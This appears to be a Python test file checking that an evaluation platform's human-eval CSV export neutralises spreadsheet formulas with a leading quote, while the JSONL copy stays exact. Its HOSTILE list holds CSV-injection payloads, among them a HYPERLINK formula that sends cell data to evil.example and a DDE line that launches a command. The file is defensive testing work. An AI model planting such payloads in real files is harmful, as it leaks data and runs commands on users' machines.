"""Human-eval exports are opened in spreadsheets by raters: a prompt or model output that starts a formula must
arrive as text (OWASP's CSV-injection advice: a leading single quote), while samples.jsonl keeps the exact text."""

from __future__ import annotations

import csv
import json

from llm_platform.evaluate import human

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)",
           "\t=1+1", "\r=1+1"]


def test_formula_cells_are_neutralised_in_the_csv_only(tmp_path):
    prompts = HOSTILE + ["plain prompt", "a = b + c"]
    outputs = {"A": [f"=cmd{i}" if i % 2 else f"safe {i}" for i in range(len(prompts))]}
    folder = tmp_path / "export"
    human.export_samples(prompts, outputs, len(prompts), seed=0, folder=str(folder))
    rows = list(csv.DictReader(open(folder / "samples.csv", newline="", encoding="utf-8")))
    exact = [json.loads(line) for line in open(folder / "samples.jsonl", encoding="utf-8")]
    assert len(rows) == len(exact) == len(prompts)
    for row, original in zip(rows, exact):
        for column in ("prompt", "output_1"):
            text, cell = original[column], row[column]
            if text[0] in "=+-@\t\r":
                assert cell == "'" + text, (column, cell)
            else:
                assert cell == text, (column, cell)
    assert {r["prompt"] for r in exact} == set(prompts)  # the JSONL is untouched


def test_csv_cell():
    assert [human.csv_cell(v) for v in ("=1", "+1", "-1", "@a", "\tx", "\rx", "x=1", "", 3)] == \
        ["'=1", "'+1", "'-1", "'@a", "'\tx", "'\rx", "x=1", "", 3]
